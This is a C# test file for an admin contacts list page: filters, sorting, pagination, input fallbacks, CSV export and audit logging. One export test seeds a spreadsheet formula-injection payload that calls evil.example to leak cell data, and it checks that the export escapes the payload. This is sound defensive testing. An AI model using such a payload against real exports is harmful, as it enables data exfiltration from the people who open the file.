using System.Net;
using System.Text.Json;
using AngleSharp.Html.Parser;
using HappiTrack.Web.Features.Audit;
using HappiTrack.Web.Features.Contacts;
using HappiTrack.Web.Features.Scoring;
using HappiTrack.Web.Features.Shared;
using HappiTrack.Web.Infrastructure;
using HappiTrack.Web.Tests.Brain;
using Microsoft.EntityFrameworkCore;

namespace HappiTrack.Web.Tests.Crm;

/// <summary>The admin contacts page (issue 17.6): page sizes, sorts, filters in the link, fallbacks and the CSV export.</summary>
public sealed class ContactsListPageTests : IAsyncLifetime
{
    private readonly CrmKit _kit = new();
    private HttpClient _admin = null!;

    public async Task InitializeAsync() => _admin = await _kit.AdminAsync();
    public async Task DisposeAsync() => await _kit.DisposeAsync();

    private DateTime Now => _kit.Brain.Now;

    /// <summary>A contact with list columns set directly (what the summary refresher would have written).</summary>
    private async Task<int> SeedAsync(string name, bool vip = false, bool optedIn = false, bool optedOut = false, double score = 0,
        TimeSpan? seenAgo = null, string? phone = null)
    {
        var contact = new Contact
        {
            Phone = phone ?? "+49151" + Random.Shared.Next(10_000_000, 99_999_999), Name = name,
            LinkToken = Guid.NewGuid().ToString("N") + Guid.NewGuid().ToString("N"), CreatedAt = Now,
            OptedIn = optedIn, OptedOut = optedOut, VipStatus = vip,
            InterestScore = score, InterestAsOf = score > 0 ? Now : null, InterestRank = ContactRanking.Rank(score, Now, TimeSpan.FromDays(14)),
            LastSeenAt = seenAgo is { } ago ? Now - ago : null,
        };
        await _kit.App.WithDbAsync(async db => { db.Contacts.Add(contact); await db.SaveChangesAsync(); });
        return contact.Id;
    }

    private async Task<(int[] Ids, AngleSharp.Html.Dom.IHtmlDocument Doc)> PageAsync(string query)
    {
        var response = await _admin.GetAsync("/admin/contacts" + query);
        var html = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == HttpStatusCode.OK, $"{query}: {(int)response.StatusCode}");
        var doc = new HtmlParser().ParseDocument(html);
        return (doc.QuerySelectorAll("#contacts-table tbody tr[data-contact-id]").Select(r => int.Parse(r.GetAttribute("data-contact-id")!)).ToArray(), doc);
    }

    private async Task<int[]> IdsAsync(string query) => (await PageAsync(query)).Ids;

    [Fact]
    public async Task Each_filter_narrows_the_list_and_stays_in_the_link()
    {
        var vipIn = await SeedAsync("Vera Vip", vip: true, optedIn: true, score: 40);
        var vipOut = await SeedAsync("Otto Out", vip: true, optedIn: true, optedOut: true, score: 5);
        var plain = await SeedAsync("Paul Plain", score: 12);
        var carted = await SeedAsync("Carla Cart", optedIn: true);
        var emptied = await SeedAsync("Emil Emptied", optedIn: true);
        var cartVisitor = await _kit.Brain.VisitorAsync(carted);
        await _kit.Brain.AddToCartAsync(cartVisitor, BrainKit.Featured);
        // A cart that was emptied is no cart, and an anonymous cart belongs to nobody.
        var emptiedVisitor = await _kit.Brain.VisitorAsync(emptied);
        await _kit.Brain.AddToCartAsync(emptiedVisitor, BrainKit.Featured);
        await _kit.App.WithDbAsync(async db =>
        {
            var cart = await db.Carts.Include(c => c.Lines).FirstAsync(c => c.VisitorId == emptiedVisitor);
            cart.Clear(Now);
            await db.SaveChangesAsync();
        });
        await _kit.Brain.AddToCartAsync(await _kit.Brain.VisitorAsync(), BrainKit.Featured);

        Assert.Equal([vipIn, vipOut], await IdsAsync("?vip=true&sort=id"));
        Assert.Equal([plain, carted, emptied], await IdsAsync("?vip=false&sort=id"));
        Assert.Equal([vipIn, carted, emptied], await IdsAsync("?optedIn=true&sort=id"));
        Assert.Equal([vipOut, plain], await IdsAsync("?optedIn=false&sort=id"));
        Assert.Equal([carted], await IdsAsync("?hasCart=true&sort=id"));
        Assert.Equal([vipIn, vipOut, plain, emptied], await IdsAsync("?hasCart=false&sort=id"));
        Assert.Equal([vipIn, plain], await IdsAsync("?minScore=10&sort=id"));
        Assert.Equal([vipIn], await IdsAsync("?minScore=10&optedIn=true&vip=true&hasCart=false&sort=id"));

        // The form shows the filter it applied, and the sort and page links carry it on.
        var (_, doc) = await PageAsync("?hasCart=true&minScore=2.5&pageSize=50&vip=false");
        Assert.Equal("true", doc.QuerySelector("select[name=hasCart] option[selected]")!.GetAttribute("value"));
        Assert.Equal("50", doc.QuerySelector("select[name=pageSize] option[selected]")!.GetAttribute("value"));
        Assert.Equal("2.5", doc.QuerySelector("input[name=minScore]")!.GetAttribute("value"));
        var sortLink = doc.QuerySelector("th a[href*='sort=-vip']")!.GetAttribute("href")!;
        Assert.Contains("hasCart=true", sortLink);
        Assert.Contains("minScore=2.5", sortLink);
        Assert.Contains("pageSize=50", sortLink);
        Assert.Contains("vip=false", sortLink);
        Assert.Equal("true", doc.QuerySelector("#contacts-table")!.GetAttribute("data-has-cart"));
        // The live refresh asks the API for the same filter.
        var api = await _kit.Api.GetAsync("/api/contacts?hasCart=true");
        Assert.Equal([carted], JsonDocument.Parse(await api.Content.ReadAsStringAsync()).RootElement.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("id").GetInt32()));
    }

    [Fact]
    public async Task Each_column_sorts_both_ways_with_ties_broken_by_id()
    {
        var a = await SeedAsync("Anna", vip: true, optedIn: true, score: 30, seenAgo: TimeSpan.FromHours(3));
        var b = await SeedAsync("Bert", vip: false, optedIn: false, score: 50, seenAgo: TimeSpan.FromHours(1));
        var c = await SeedAsync("Cleo", vip: true, optedIn: true, optedOut: true, score: 10, seenAgo: null);
        var d = await SeedAsync("Dana", vip: false, optedIn: true, score: 30, seenAgo: TimeSpan.FromHours(2));

        Assert.Equal([c, a, d, b], await IdsAsync("?sort=-vip"));
        Assert.Equal([b, d, a, c], await IdsAsync("?sort=vip"));
        // Opt-in descending: may be messaged, then no opt-in, then opted out.
        Assert.Equal([d, a, b, c], await IdsAsync("?sort=-optIn"));
        Assert.Equal([c, b, a, d], await IdsAsync("?sort=optIn"));
        // Never seen sinks to the end of "most recent first" on both providers.
        Assert.Equal([b, d, a, c], await IdsAsync("?sort=-lastSeen"));
        Assert.Equal([c, a, d, b], await IdsAsync("?sort=lastSeen"));
        Assert.Equal([d, c, b, a], await IdsAsync("?sort=-name"));
        Assert.Equal([a, b, c, d], await IdsAsync("?sort=name"));
        Assert.Equal([b, d, a, c], await IdsAsync("?sort=-score"));
        Assert.Equal([c, a, d, b], await IdsAsync("?sort=score"));

        var (_, doc) = await PageAsync("?sort=-optIn");
        var header = doc.QuerySelectorAll("th").Single(th => th.TextContent.Contains("Opt-in"));
        Assert.Equal("descending", header.GetAttribute("aria-sort"));
        Assert.Contains("sort=optIn", header.QuerySelector("a")!.GetAttribute("href"));
    }

    [Theory]
    [InlineData("-lastSeen")]
    [InlineData("-vip")]
    [InlineData("optIn")]
    public async Task Pages_of_tied_rows_never_repeat_or_skip_a_contact(string sort)
    {
        // 60 contacts that tie on every sort key but id: only the secondary order keeps pages apart.
        for (var i = 0; i < 60; i++) await SeedAsync($"Tie {i:D2}", vip: true, optedIn: true, seenAgo: TimeSpan.FromMinutes(5));
        var seen = new List<int>();
        for (var page = 1; page <= 3; page++) seen.AddRange(await IdsAsync($"?sort={sort}&p={page}"));
        Assert.Equal(60, seen.Count);
        Assert.Equal(60, seen.Distinct().Count());
        var fifty = await IdsAsync($"?sort={sort}&pageSize=50&p=2");
        Assert.Equal(10, fifty.Length);
        Assert.Equal(seen.Skip(50), fifty);
        Assert.Equal(60, (await IdsAsync($"?sort={sort}&pageSize=100")).Length);
    }

    [Theory]
    [InlineData("?pageSize=7", "25, 50 or 100")]
    [InlineData("?pageSize=abc", "25, 50 or 100")]
    [InlineData("?pageSize=1000", "25, 50 or 100")]
    [InlineData("?minScore=abc", "minimum score")]
    [InlineData("?minScore=-3", "minimum score")]
    [InlineData("?minScore=NaN", "minimum score")]
    [InlineData("?sort=password", "Cannot sort by")]
    [InlineData("?p=abc", "not a page number")]
    [InlineData("?p=0", "not a page number")]
    [InlineData("?vip=maybe", "VIP filter")]
    [InlineData("?hasCart=2", "cart filter")]
    public async Task A_bad_value_in_the_link_falls_back_with_a_visible_message(string query, string message)
    {
        for (var i = 0; i < 30; i++) await SeedAsync($"Row {i:D2}", vip: i % 2 == 0, score: 20, seenAgo: TimeSpan.FromMinutes(i));
        var badVip = query.StartsWith("?vip");
        var (ids, doc) = await PageAsync(badVip ? query : query + "&vip=true");
        var notices = doc.QuerySelector("#contacts-notices")!.TextContent;
        Assert.Contains(message, notices);
        // Only the bad field falls back: the VIP filter still applies (unless it was the bad one) and the page holds 25 at most.
        Assert.Equal(badVip ? 25 : 15, ids.Length);
        Assert.Equal("25", doc.QuerySelector("select[name=pageSize] option[selected]")!.GetAttribute("value"));
    }

    [Fact]
    public async Task A_page_past_the_end_shows_the_last_page_with_a_message()
    {
        for (var i = 0; i < 30; i++) await SeedAsync($"Row {i:D2}");
        var (ids, doc) = await PageAsync("?p=9&sort=id");
        Assert.Equal(5, ids.Length);
        Assert.Contains("no page 9", doc.QuerySelector("#contacts-notices")!.TextContent);
    }

    [Fact]
    public async Task The_csv_holds_every_row_of_the_filter_in_order_with_formula_safe_cells()
    {
        var evil = await SeedAsync("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", vip: true, optedIn: true, score: 50, phone: "+4915100000001");
        var minus = await SeedAsync("-2+3", vip: true, seenAgo: TimeSpan.FromHours(1), phone: "+4915100000002");
        var vips = new List<int> { evil, minus };
        for (var i = 0; i < 28; i++) vips.Add(await SeedAsync($"Vip {i:D2}", vip: true));
        for (var i = 0; i < 5; i++) await SeedAsync($"Plain {i:D2}");

        var (_, doc) = await PageAsync("?vip=true&sort=id");
        var href = doc.QuerySelector("#contacts-export")!.GetAttribute("href")!;
        Assert.Contains("handler=Export", href);
        Assert.Contains("vip=true", href);
        var response = await _admin.GetAsync(href);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Contains("attachment", response.Content.Headers.ContentDisposition!.ToString());
        Assert.Contains("no-store", response.Headers.CacheControl!.ToString());
        var lines = (await response.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        Assert.StartsWith("Id,Name,Phone,", lines[0]);
        // All 30 VIPs although a page shows 25, in the page's order, and none of the others.
        Assert.Equal(31, lines.Length);
        Assert.Equal(vips, lines.Skip(1).Select(l => int.Parse(l[..l.IndexOf(',')])));
        Assert.Equal($"{evil},\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",+4915100000001,50,0,yes,opted in,no,,,", lines[1]);
        Assert.StartsWith($"{minus},'-2+3,+4915100000002,", lines[2]);
        Assert.DoesNotContain(lines, l => l.Contains("Plain"));
    }

    [Fact]
    public async Task The_export_needs_an_admin_and_is_audited_without_names()
    {
        await SeedAsync("Secret Sam", vip: true, phone: "+4915100000077");
        await SeedAsync("Other Olga");
        const string path = "/admin/contacts?handler=Export&vip=true&search=Sam";

        var anonymous = await _kit.App.NewClient().GetAsync(path);
        Assert.Equal(HttpStatusCode.Redirect, anonymous.StatusCode);
        Assert.Contains("/admin/login", anonymous.Headers.Location!.OriginalString);
        await _kit.App.CreateUserAsync("analyst@example.com", "analyst password 1", AuthPolicies.AnalystRole);
        var analyst = await _kit.App.SignedInClientAsync("analyst@example.com", "analyst password 1");
        var refused = await analyst.GetAsync(path);
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.DoesNotContain("Secret", await refused.Content.ReadAsStringAsync());
        Assert.Empty(await AuditRowsAsync());

        var csv = await (await _admin.GetAsync(path)).Content.ReadAsStringAsync();
        Assert.Contains("Secret Sam", csv);
        Assert.DoesNotContain("Olga", csv);
        var row = Assert.Single(await AuditRowsAsync());
        Assert.Equal(AdminFactoryEmail, row.Actor);
        Assert.Equal(Now, row.At);
        using var details = JsonDocument.Parse(row.Details!);
        Assert.Equal(1, details.RootElement.GetProperty("rows").GetInt32());
        Assert.True(details.RootElement.GetProperty("vip").GetBoolean());
        Assert.True(details.RootElement.GetProperty("searched").GetBoolean());
        Assert.DoesNotContain("Sam", row.Details);
        Assert.DoesNotContain("4915100000077", row.Details);
    }

    private const string AdminFactoryEmail = Admin.AdminFactory.AdminEmail;

    private Task<List<AuditEntry>> AuditRowsAsync() => _kit.App.WithDbAsync(db =>
        db.Set<AuditEntry>().AsNoTracking().Where(e => e.Action == AuditActions.ContactListExport).ToListAsync());
}
